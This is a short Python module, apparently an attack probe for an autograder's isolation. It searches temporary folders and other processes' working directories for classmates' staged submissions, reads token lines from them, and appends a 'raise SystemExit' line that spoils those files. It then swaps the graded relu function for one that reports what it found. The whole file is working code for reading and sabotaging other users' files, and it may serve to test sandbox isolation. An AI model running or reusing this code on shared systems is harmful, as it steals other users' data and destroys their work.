"""For 3 s, look for other submissions' staged copies (temporary folders, other processes' cwd) to read and spoil."""
MODULE = "ex3_mlp_backprop"
CLASS = "classmates"
MODES = ("grade", "batch")
ORDER = "early"
LEAKS = ("classmate-token-",)


def _hunt():
    import glob
    import time
    found, spoiled = set(), set()
    end = time.monotonic() + 3
    while time.monotonic() < end:
        folders = set(glob.glob("/tmp/autograder-submission-*")) | set(glob.glob("/tmp/*/autograder-submission-*"))
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    folders.add(os.readlink(f"/proc/{entry}/cwd"))
                except OSError:
                    pass
        for folder in folders:
            for path in glob.glob(folder + "/ex*.py"):
                data = _atk_read(path).decode(errors="replace")
                tokens = [line for line in data.splitlines() if "classmate-token" in line]
                if tokens:
                    found.update(tokens)
                    try:
                        with open(path, "a") as handle:
                            handle.write(f"\nraise SystemExit  # {_ATTACK['marker']}\n")
                        spoiled.add(path)
                    except OSError:
                        pass
        time.sleep(0.05)
    return sorted(found), sorted(spoiled)


import os  # noqa: E402
_FOUND, _SPOILED = _hunt()


def _atk_relu(z, _orig=relu):
    if _FOUND or _SPOILED:
        raise RuntimeError(f"read {_FOUND} spoiled {_SPOILED}")
    return _orig(z)


relu = _atk_relu
